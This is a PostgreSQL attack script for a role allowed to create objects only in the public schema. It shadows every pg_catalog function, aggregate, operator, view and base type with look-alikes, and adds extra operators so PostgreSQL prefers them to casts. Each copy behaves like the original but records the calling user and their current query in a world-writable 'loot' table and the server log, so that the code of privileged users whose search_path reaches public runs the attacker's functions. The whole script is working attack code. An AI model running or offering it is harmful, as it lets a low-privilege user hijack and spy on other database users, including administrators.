-- What a role that may only create objects in `public` leaves there: for each function, operator,
-- type and view of pg_catalog another of the same name, and operators for pairs of types that
-- pg_catalog has none for, which PostgreSQL then prefers to a cast. Each works like the real one
-- and notes who called it. Run as that role, with search_path = pg_catalog.

CREATE TABLE public.loot (who text, what text, query text);
GRANT INSERT ON public.loot TO PUBLIC;
-- A value of it stays where the caller's transaction does not.
CREATE SEQUENCE public.lured;
GRANT USAGE ON SEQUENCE public.lured TO PUBLIC;

CREATE FUNCTION public.note(what pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql SET search_path = pg_catalog AS $note$
BEGIN
    PERFORM nextval('public.lured');
    RAISE LOG 'lured into % as %: %', what, current_user, current_query();
    INSERT INTO public.loot VALUES (current_user, what, current_query());
    RETURN true;
END
$note$;

CREATE FUNCTION public.try(statement pg_catalog.text) RETURNS pg_catalog.void LANGUAGE plpgsql AS $try$
BEGIN
    EXECUTE statement;
EXCEPTION WHEN OTHERS THEN
    -- Not everything can be shadowed: pseudo-types, system columns.
END
$try$;

DO $functions$
DECLARE
    f record;
    least int;
BEGIN
    FOR f IN
        SELECT p.oid, p.proname, p.prokind, p.pronargs, p.pronargdefaults, p.provariadic <> 0 AS variadic,
               ARRAY(SELECT format_type(t, NULL) FROM unnest(p.proargtypes) WITH ORDINALITY a (t, n) ORDER BY n) AS types,
               (SELECT string_agg(format('OUT %I %s', coalesce(nullif(o.name, ''), 'o' || o.n), format_type(o.t, NULL)), ', ' ORDER BY o.n)
                  FROM unnest(p.proallargtypes, p.proargmodes, p.proargnames) WITH ORDINALITY o (t, mode, name, n)
                 WHERE o.mode IN ('o', 't')) AS outs,
               (SELECT count(*) FROM unnest(p.proargmodes) m WHERE m IN ('o', 't')) AS out_count,
               p.proretset, format_type(p.prorettype, NULL) AS result
          FROM pg_proc p
         WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind <> 'p'
    LOOP
        IF f.prokind = 'a' THEN
            PERFORM public.try(format(
                'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE sql AS $f$ SELECT public.note(%L); SELECT $1 $f$',
                'step_' || f.oid, array_to_string(f.result || f.types, ', '), f.result, 'aggregate ' || f.proname));
            PERFORM public.try(format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.%I, STYPE = %s)',
                f.proname, CASE WHEN f.pronargs = 0 THEN '*' ELSE array_to_string(f.types, ', ') END,
                'step_' || f.oid, f.result));
            CONTINUE;
        END IF;
        -- Called with fewer arguments, one without defaults is the better match.
        least := f.pronargs - f.pronargdefaults;
        FOR n IN least .. f.pronargs LOOP
            PERFORM public.try(format(
                'CREATE FUNCTION public.%I(%s) %s LANGUAGE sql AS $f$ SELECT public.note(%L); SELECT * FROM pg_catalog.%I(%s) $f$',
                f.proname,
                concat_ws(', ', nullif(array_to_string(ARRAY(
                    SELECT CASE WHEN f.variadic AND i = f.pronargs THEN 'VARIADIC ' ELSE '' END || f.types[i]
                      FROM generate_series(1, n) i ORDER BY i), ', '), ''), f.outs),
                CASE WHEN f.outs IS NULL THEN format('RETURNS %s %s', CASE WHEN f.proretset THEN 'SETOF' ELSE '' END, f.result)
                     WHEN f.proretset THEN format('RETURNS SETOF %s', CASE WHEN f.out_count > 1 THEN 'record' ELSE f.result END)
                     ELSE '' END,
                'function ' || f.proname, f.proname,
                (SELECT string_agg(CASE WHEN f.variadic AND i = f.pronargs THEN 'VARIADIC ' ELSE '' END || '$' || i, ', ' ORDER BY i)
                   FROM generate_series(1, n) i)));
        END LOOP;
    END LOOP;
END
$functions$;

DO $operators$
DECLARE
    types text[] := ARRAY['text', 'name', '"char"', 'int4', 'int8', 'numeric', 'oid', 'xid', 'pg_lsn', 'jsonb', 'regclass',
                          'timestamptz', 'interval', 'uuid'];
    o record;
    made text;
BEGIN
    FOR o IN
        SELECT oprname AS name, nullif(oprleft, 0)::regtype::text AS l, oprright::regtype::text AS r, oprresult::regtype::text AS result,
               CASE oprkind WHEN 'b' THEN format('$1 OPERATOR(pg_catalog.%s) $2', oprname)
                            ELSE format('OPERATOR(pg_catalog.%s) $1', oprname) END AS body
          FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace
        UNION ALL
        SELECT name, l, r, coalesce(result, l), coalesce(body, '$1')
          FROM (VALUES ('=', 'bool', '$1::text OPERATOR(pg_catalog.=) $2::text'), ('<>', 'bool', '$1::text OPERATOR(pg_catalog.<>) $2::text'),
                       ('<', 'bool', '$1::text OPERATOR(pg_catalog.<) $2::text'), ('>', 'bool', '$1::text OPERATOR(pg_catalog.>) $2::text'),
                       ('<=', 'bool', '$1::text OPERATOR(pg_catalog.<=) $2::text'), ('>=', 'bool', '$1::text OPERATOR(pg_catalog.>=) $2::text'),
                       ('||', 'text', '$1::text OPERATOR(pg_catalog.||) $2::text'), ('->>', 'text', '$1::text::jsonb OPERATOR(pg_catalog.->>) $2::text'),
                       ('->', 'jsonb', '$1::text::jsonb OPERATOR(pg_catalog.->) $2::text'), ('?', 'bool', '$1::text::jsonb OPERATOR(pg_catalog.?) $2::text'),
                       ('+', NULL, NULL), ('-', NULL, NULL), ('*', NULL, NULL), ('/', NULL, NULL), ('%', NULL, NULL), ('&', NULL, NULL)
               ) AS names (name, result, body), unnest(types) l, unnest(types) r
         -- A text that is no JSON would only be refused.
         WHERE NOT (name IN ('->', '->>', '?') AND r = 'jsonb')
    LOOP
        made := md5(o.name || coalesce(o.l, '') || '/' || o.r);
        PERFORM public.try(format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE sql AS $f$ SELECT public.note(%L); SELECT %s $f$',
            made, concat_ws(', ', o.l, o.r), o.result, format('operator %s (%s, %s)', o.name, o.l, o.r), o.body));
        PERFORM public.try(format('CREATE OPERATOR public.%s (FUNCTION = public.%I, %s RIGHTARG = %s)',
            o.name, made, 'LEFTARG = ' || o.l || ',', o.r));
    END LOOP;
END
$operators$;

DO $relations$
DECLARE
    name text;
BEGIN
    FOR name IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
        PERFORM public.try(format('CREATE VIEW public.%I AS SELECT * FROM pg_catalog.%I WHERE public.note(%L)', name, name, 'view ' || name));
        PERFORM public.try(format('GRANT SELECT ON public.%I TO PUBLIC', name));
    END LOOP;
    -- Last: from here on the names of types mean these to whoever has public first.
    FOR name IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typname NOT LIKE '\_%' LOOP
        PERFORM public.try(format('CREATE DOMAIN public.%I AS pg_catalog.%I CHECK (public.note(%L))', name, name, 'type ' || name));
    END LOOP;
END
$relations$;
